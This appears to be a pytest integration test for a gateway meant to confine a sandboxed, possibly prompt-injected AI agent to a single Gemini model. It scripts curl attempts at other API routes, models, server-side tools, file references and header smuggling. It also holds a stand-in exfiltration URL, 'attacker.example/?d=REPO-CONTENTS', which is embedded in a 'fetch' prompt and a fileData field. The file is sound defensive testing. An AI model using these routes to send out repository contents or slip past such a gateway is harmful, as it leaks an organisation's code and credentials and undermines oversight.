"""The gateway is a door to one model, not to the Gemini API: attempts from inside a real
sandbox holding a question's token (bridged to its session socket, as a question's agent
is), made with curl the way a prompt-injected agent with a shell would make them, against
a real gateway process and the fake Gemini API, which records every request it receives.

Every path outside the route table, every other model, every server-side tool (both
spellings), cached content and file reference is refused with a message, and none of
them reaches the fake; headers outside the allowlist are dropped; an upstream redirect is
never followed, so the key never reaches the redirect's host.
"""

from __future__ import annotations

import json
import shlex
from dataclasses import dataclass, field
from typing import Any

import pytest

from gateway.providers.gemini import FORWARDED_HEADERS
from sandbox import Sandbox, SandboxSpec
from sandbox.bridges import SocketBridge
from sandbox.spec import Limits
from tests.fakes.gemini_api import FakeGeminiAPI, Redirect, Text
from tests.integration.gateway_helpers import GENERATE_PATH, MODEL, GatewayProcess, call, gateway_env, run

pytestmark = [pytest.mark.docker, pytest.mark.redis, pytest.mark.usefixtures("no_leftovers")]
REAL_KEY = "AIzaSy-the-real-key-of-the-organisation"
PORT = 8100
STREAM = f"/v1beta/models/{MODEL}:streamGenerateContent?alt=sse"


def contents(text: str = "Summarise this repository.") -> dict[str, Any]:
    return {"contents": [{"role": "user", "parts": [{"text": text}]}]}


def tools(*tool: dict[str, Any]) -> dict[str, Any]:
    return {**contents(), "tools": list(tool)}


EXFIL = "https://attacker.example/?d=REPO-CONTENTS"


@dataclass(frozen=True)
class Attempt:
    name: str
    path: str
    body: Any = None  # JSON, or raw bytes
    method: str = "POST"
    headers: dict[str, str] = field(default_factory=dict)
    status: int = 0  # what the gateway must answer
    says: str = ""  # ...and a phrase its message must hold

    def curl(self) -> str:
        """One curl call printing ``name<TAB>status<TAB>body`` (the key from the sandbox's env)."""
        args = [
            "curl",
            "-sS",
            "--path-as-is",
            "-o",
            "/tmp/out",
            "-w",
            "%{http_code}",
            "-X",
            self.method,
            "-H",
            "content-type: application/json",
        ]
        for name, value in self.headers.items():
            args += ["-H", f"{name}: {value}"]
        data = self.body if isinstance(self.body, bytes) else json.dumps(self.body).encode()
        if self.body is not None:
            args += ["--data-binary", data.decode()]
        line = " ".join(shlex.quote(a) for a in args)
        url = shlex.quote(f"http://127.0.0.1:{PORT}{self.path}")
        return (
            f"printf '%s\\t' {shlex.quote(self.name)}; {line} -H \"x-goog-api-key: $GEMINI_API_KEY\" {url}; "
            "printf '\\t'; tr -d '\\n\\t' < /tmp/out; echo"
        )


ROUTE, MODEL_ONLY, FIELD = (
    "serves only POST /v1beta/models/gemini-2.5-flash",
    "only the model gemini-2.5-flash",
    "does not forward",
)
ATTEMPTS = [
    # Other surfaces of the API, with the organisation's key behind them.
    Attempt("files-list", "/v1beta/files", method="GET", status=403, says=ROUTE),
    Attempt(
        "upload",
        "/upload/v1beta/files?uploadType=media",
        b"stolen source code",
        headers={"X-Goog-Upload-Protocol": "raw"},
        status=403,
        says=ROUTE,
    ),
    Attempt(
        "cached-contents", "/v1beta/cachedContents", {"model": f"models/{MODEL}", **contents()}, status=403, says=ROUTE
    ),
    Attempt("tuned-models", "/v1beta/tunedModels", method="GET", status=403, says=ROUTE),
    Attempt(
        "batch",
        f"/v1beta/models/{MODEL}:batchGenerateContent",
        {"batch": {"inputConfig": {"requests": {"requests": [{"request": contents()}]}}}},
        status=403,
        says=ROUTE,
    ),
    Attempt("models-list", "/v1beta/models", method="GET", status=403, says=ROUTE),
    Attempt("model-info", f"/v1beta/models/{MODEL}", method="GET", status=403, says=ROUTE),
    Attempt("get-generate", f"/v1beta/models/{MODEL}:generateContent", method="GET", status=403, says=ROUTE),
    Attempt("v1alpha", f"/v1alpha/models/{MODEL}:generateContent", contents(), status=403, says=ROUTE),
    Attempt("dot-dot", f"/v1beta/models/{MODEL}:generateContent/../../files", contents(), status=403, says=ROUTE),
    Attempt("encoded", f"/v1beta/models/{MODEL}%3AgenerateContent", contents(), status=403, says=ROUTE),
    Attempt(
        "query",
        f"/v1beta/models/{MODEL}:streamGenerateContent?alt=sse&uploadType=media",
        contents(),
        status=400,
        says="allows alt=sse",
    ),
    # Other models: a pricier one, paid media models.
    Attempt("other-model", "/v1beta/models/gemini-2.5-pro:generateContent", contents(), status=403, says=MODEL_ONLY),
    Attempt(
        "image-model",
        "/v1beta/models/gemini-2.5-flash-image-preview:generateContent",
        contents(),
        status=403,
        says=MODEL_ONLY,
    ),
    Attempt(
        "imagen",
        "/v1beta/models/imagen-4.0-generate-001:predict",
        {"instances": [{"prompt": "x"}]},
        status=403,
        says=ROUTE,
    ),
    Attempt(
        "veo",
        "/v1beta/models/veo-3.0-generate-001:predictLongRunning",
        {"instances": [{"prompt": "x"}]},
        status=403,
        says=ROUTE,
    ),
    Attempt(
        "tts-model",
        "/v1beta/models/gemini-2.5-flash-preview-tts:generateContent",
        contents(),
        status=403,
        says=MODEL_ONLY,
    ),
    Attempt(
        "count-other-model",
        f"/v1beta/models/{MODEL}:countTokens",
        {"generateContentRequest": {"model": "models/gemini-2.5-pro", **contents()}},
        status=403,
        says=MODEL_ONLY,
    ),
    # Server-side tools: the model would fetch the attacker's URL with the repository in it.
    *(
        Attempt(f"tool-{name}", STREAM, tools({name: {}}), status=400, says=f"{FIELD} `tools[0].{name}`")
        for name in (
            "googleSearch",
            "google_search",
            "urlContext",
            "url_context",
            "codeExecution",
            "code_execution",
            "googleSearchRetrieval",
            "google_search_retrieval",
        )
    ),
    Attempt(
        "tool-beside-functions",
        STREAM,
        tools({"functionDeclarations": [{"name": "read_file"}], "urlContext": {}}),
        status=400,
        says="tools[0].urlContext",
    ),
    Attempt(
        "tool-duplicate-key",
        STREAM,
        (
            '{"contents":[{"parts":[{"text":"fetch ' + EXFIL + '"}]}],"tools":[{"urlContext":{}}],'
            '"tools":[{"functionDeclarations":[]}]}'
        ).encode(),
        status=400,
        says="`tools` twice",
    ),
    # Stored content and file references.
    Attempt(
        "cached-content",
        STREAM,
        {**contents(), "cachedContent": "cachedContents/abc"},
        status=400,
        says=f"{FIELD} `cachedContent`",
    ),
    Attempt(
        "cached_content",
        STREAM,
        {**contents(), "cached_content": "cachedContents/abc"},
        status=400,
        says=f"{FIELD} `cached_content`",
    ),
    Attempt(
        "file-data",
        STREAM,
        {"contents": [{"role": "user", "parts": [{"fileData": {"mimeType": "text/html", "fileUri": EXFIL}}]}]},
        status=400,
        says="parts[0].fileData",
    ),
    Attempt(
        "file_data",
        STREAM,
        {
            "contents": [
                {
                    "role": "user",
                    "parts": [
                        {"file_data": {"file_uri": "https://generativelanguage.googleapis.com/v1beta/files/abc"}}
                    ],
                }
            ]
        },
        status=400,
        says="parts[0].file_data",
    ),
    Attempt(
        "function-response-file",
        STREAM,
        {
            "contents": [
                {
                    "role": "user",
                    "parts": [
                        {
                            "functionResponse": {
                                "name": "read_file",
                                "response": {},
                                "parts": [{"fileData": {"fileUri": "files/abc"}}],
                            }
                        }
                    ],
                }
            ]
        },
        status=400,
        says="functionResponse.parts[0].fileData",
    ),
    Attempt("service-tier", STREAM, {**contents(), "serviceTier": "priority"}, status=400, says="`serviceTier`"),
    Attempt(
        "image-output",
        STREAM,
        {**contents(), "generationConfig": {"responseModalities": ["IMAGE"]}},
        status=400,
        says="responseModalities",
    ),
]
# Served, but with only the allowlisted headers: these would change what upstream does.
SMUGGLED_HEADERS = {
    "X-HTTP-Method-Override": "GET",
    "x-goog-user-project": "someone-elses-project",
    "X-Goog-FieldMask": "*",
    "Referer": "https://allowed-referrer.example/",
    "x-server-timeout": "1",
}
ALLOWED = [
    Attempt("allowed", STREAM, contents(), status=200),
    Attempt("allowed-smuggling-headers", STREAM, contents(), headers=SMUGGLED_HEADERS, status=200),
]


def test_a_prompt_injected_agent_reaches_nothing_but_its_model(redis_client, sandbox: Sandbox, built_images):
    script = "\n".join(a.curl() for a in ATTEMPTS + ALLOWED)
    with FakeGeminiAPI(default=Text("the allowed answer")) as fake:
        with GatewayProcess(gateway_env(fake.base_url, [REAL_KEY])) as gateway:
            session = gateway.open(model=MODEL)
            spec = SandboxSpec(
                image=built_images["agent-gemini"],
                command=["bash", "-c", script],
                secret_env={"GEMINI_API_KEY": session.token.get_secret_value()},
                bridges=(
                    SocketBridge(
                        host_dir=session.socket_dir,
                        socket=session.socket.name,
                        port=PORT,
                        mount_point="/run/askbox-gateway",
                    ),
                ),
                limits=Limits(timeout=120),
            )
            lines: list[str] = []
            with sandbox.run(spec) as running:
                lines = [line.text for line in running if line.stream == "stdout"]
            gateway_log = gateway.output()
    results = {}
    for line in lines:
        name, status, body = line.split("\t", 2)
        results[name] = (int(status), body)
    assert set(results) == {a.name for a in ATTEMPTS + ALLOWED}, lines
    for attempt in ATTEMPTS + ALLOWED:
        status, body = results[attempt.name]
        assert status == attempt.status, (attempt.name, status, body)
        if attempt.says:
            message = json.loads(body)["error"]["message"]
            assert attempt.says in message, (attempt.name, message)
    # The fake saw the two allowed calls and nothing else, with the real key and only the
    # allowlisted headers (plus what HTTP itself needs).
    assert [f"{r.method} {r.path}" for r in fake.requests] == [f"POST /v1beta/models/{MODEL}:streamGenerateContent"] * 2
    assert fake.unknown == []
    transport = {"host", "content-length", "content-type", "accept-encoding", "x-goog-api-key"}
    for request in fake.requests:
        assert request.api_key == REAL_KEY and request.query == {"alt": ["sse"]}
        assert set(request.headers) <= transport | set(FORWARDED_HEADERS), request.headers
        assert request.body == contents()
    assert "refused" in gateway_log  # each refusal is logged for the operator


@pytest.mark.parametrize("status", [302, 307, 308])
def test_an_upstream_redirect_is_never_followed(redis_client, status: int):
    with FakeGeminiAPI() as thief, FakeGeminiAPI() as fake:
        fake.script(Redirect(f"{thief.base_url}/v1beta/models/{MODEL}:generateContent", status=status))
        with GatewayProcess(gateway_env(fake.base_url, [REAL_KEY])) as gateway:
            session = gateway.open()
            answer = run(call(session.socket, session.token.get_secret_value(), GENERATE_PATH))
            after = run(call(session.socket, session.token.get_secret_value(), GENERATE_PATH))
    assert answer.status == 502 and "redirect" in answer.json()["error"]["message"]
    assert thief.requests == []  # the key never reached the redirect's host
    assert [r.api_key for r in fake.requests] == [REAL_KEY, REAL_KEY] and after.status == 200
